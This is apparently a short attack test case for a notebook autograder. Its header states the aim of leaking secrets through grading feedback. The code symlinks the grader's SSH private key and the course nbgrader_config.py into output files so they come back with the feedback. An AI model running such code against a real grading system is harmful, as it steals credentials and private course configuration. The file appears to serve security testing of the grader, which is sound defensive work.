# /// attack
# tries = "Makes a link to the private key while it is graded, to get it back with the feedback."
# points = 0
# shows = ["leak"]
# ///
# %% before count
import os

os.symlink(f"{bait['home']}/.ssh/id_ed25519", "data.txt")
os.symlink(f"{bait['course']}/nbgrader_config.py", "more.txt")
